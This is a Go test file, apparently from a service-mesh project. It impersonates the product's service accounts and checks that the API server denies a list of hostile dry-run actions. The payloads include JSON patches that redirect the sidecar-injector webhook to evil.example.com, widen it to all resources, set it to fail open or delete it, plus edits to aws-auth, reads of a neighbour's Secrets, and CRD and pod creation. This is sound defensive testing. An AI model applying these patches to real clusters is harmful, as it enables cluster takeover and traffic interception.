package attack

import (
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/outrider-mesh/outrider/test/kit"
)

// stolenAccount: an attacker has the credentials of a service account of the product, and
// changes what is not the product's. All is denied; what the product itself does is not.
func stolenAccount(t *testing.T, b *battery) {
	all, err := b.kube.CoreV1().ServiceAccounts(system).List(ended, metav1.ListOptions{})
	kit.Must(t, err)
	for _, account := range all.Items {
		if account.Name == "default" {
			continue
		}
		t.Run(account.Name, func(t *testing.T) { stolen(t, b, account.Name) })
	}
	b.neighbor.goesOn(t, 2)
}

func stolen(t *testing.T, b *battery, account string) {
	config := rest.CopyConfig(b.config)
	config.Impersonate = rest.ImpersonationConfig{
		UserName: "system:serviceaccount:" + system + ":" + account,
		Groups:   []string{"system:serviceaccounts", "system:serviceaccounts:" + system, "system:authenticated"},
	}
	kube, err := kubernetes.NewForConfig(config)
	kit.Must(t, err)
	objects, err := dynamic.NewForConfig(config)
	kit.Must(t, err)
	dry := []string{metav1.DryRunAll}
	configMap := func(namespace, name string) func() error {
		return func() error {
			_, err := kube.CoreV1().ConfigMaps(namespace).Create(ended, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{DryRun: dry})
			return err
		}
	}
	patch := func(patch string) func() error {
		return func() error {
			_, err := kube.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ended, "outrider-sidecar-injector", types.JSONPatchType, []byte(patch), metav1.PatchOptions{DryRun: dry})
			return err
		}
	}
	for what, try := range map[string]func() error{
		"aws-auth":                           configMap("kube-system", "aws-auth"),
		"a ConfigMap of the neighbor":        configMap(bank, "settings"),
		"a name like the product's":          configMap(bank, "outrider-ca-2"),
		"extension-apiserver-authentication": configMap("kube-system", "coredns-custom"),
		"the webhook for everything":         patch(`[{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":["*"],"apiVersions":["*"],"operations":["*"],"resources":["*/*"]}]}]`),
		"the webhook at another URL":         patch(`[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://evil.example.com/"}}]`),
		"the webhook at another Service":     patch(`[{"op":"replace","path":"/webhooks/0/clientConfig/service/name","value":"other"}]`),
		"the webhook for other namespaces":   patch(`[{"op":"replace","path":"/webhooks/0/namespaceSelector","value":{}}]`),
		"the webhook with another policy":    patch(`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]`),
		"one more webhook":                   patch(`[{"op":"copy","from":"/webhooks/0","path":"/webhooks/-"},{"op":"replace","path":"/webhooks/4/name","value":"more.example.com"}]`),
		"no webhook":                         patch(`[{"op":"remove","path":"/webhooks/0"}]`),
		"labels of the webhook":              patch(`[{"op":"replace","path":"/metadata/labels","value":{}}]`),
		"another webhook": func() error {
			_, err := kube.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ended, &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "mine"}}, metav1.CreateOptions{DryRun: dry})
			return err
		},
		"any CRD": func() error {
			u := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": map[string]any{"name": "things.example.com"},
				"spec": map[string]any{"group": "example.com", "scope": "Namespaced", "names": map[string]any{"plural": "things", "kind": "Thing"},
					"versions": []any{map[string]any{"name": "v1", "served": true, "storage": true, "schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object"}}}}}}}
			_, err := objects.Resource(schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}).Create(ended, u, metav1.CreateOptions{DryRun: dry})
			return err
		},
		"a pod": func() error {
			_, err := kube.CoreV1().Pods(system).Create(ended, pod("p", "sink"), metav1.CreateOptions{DryRun: dry})
			return err
		},
		"a Secret of the neighbor": func() error { _, err := kube.CoreV1().Secrets(bank).List(ended, metav1.ListOptions{}); return err },
		"an entry of the neighbor": func() error {
			_, err := objects.Resource(entries).Namespace(bank).Patch(ended, "httpbin-org", types.MergePatchType, []byte(`{"spec":{"hosts":["x.example.com"]}}`), metav1.PatchOptions{DryRun: dry})
			return err
		},
		"the namespace of the neighbor": func() error {
			_, err := kube.CoreV1().Namespaces().Patch(ended, bank, types.MergePatchType, []byte(`{"metadata":{"labels":{"istio-injection":null}}}`), metav1.PatchOptions{DryRun: dry})
			return err
		},
	} {
		if err := try(); err == nil {
			t.Errorf("%s: it is allowed", what)
		} else if text := err.Error(); !strings.Contains(text, "forbidden") && !strings.Contains(text, "denied") {
			t.Errorf("%s: %v", what, err)
		}
	}
}
